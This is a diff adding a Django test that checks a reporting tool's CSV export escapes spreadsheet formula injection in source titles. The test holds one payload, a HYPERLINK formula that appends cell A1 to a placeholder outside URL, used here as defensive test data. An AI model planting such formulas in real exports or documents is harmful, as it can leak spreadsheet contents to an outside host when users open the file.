@@ -9,10 +9,13 @@ from django.core.management import call_command
 from django.core.management.base import CommandError
 from django.utils import translation
 
+from tests.factories import staff
 from tests.reports.conftest import AS_OF, public_report
+from vigil.core.services import save_with_history
 from vigil.demo.seed import demo_load
 from vigil.reports.render.data import CSV_COLUMNS, SCHEMA, render_csv, render_json
 from vigil.reports.render.text import render_text
+from vigil.sources.models import Source
 
 pytestmark = pytest.mark.django_db
 
@@ -161,3 +164,16 @@ def test_labels_follow_the_active_language():
     with translation.override("fa"):
         report = public_report(AS_OF)
         assert report.named_count("detained").label == "همچنان در بازداشت"  # type: ignore[union-attr]
+
+
+def test_a_source_title_cannot_run_as_a_formula_in_the_csv(seed):
+    """A source titled like a formula (copied from a post: "=HYPERLINK(...)", "-30 killed ...") is text when
+    the campaign lead opens the CSV in a spreadsheet: it gets a leading apostrophe, as Vigil's exports do."""
+    source = Source.objects.get(title__startswith="Campaign report on the uprising")
+    source.title = '=HYPERLINK("http://example.invalid/?"&A1,"more")'
+    save_with_history(source, actor=staff(), reason="Test: a title pasted from a post")
+
+    rows = list(csv.DictReader(io.StringIO(render_csv(public_report()))))
+    titles = {row["source"] for row in rows if row["kind"] == "reported"}
+    assert '\'=HYPERLINK("http://example.invalid/?"&A1,"more")' in titles
+    assert not [title for title in titles if title[:1] in "=+-@"]
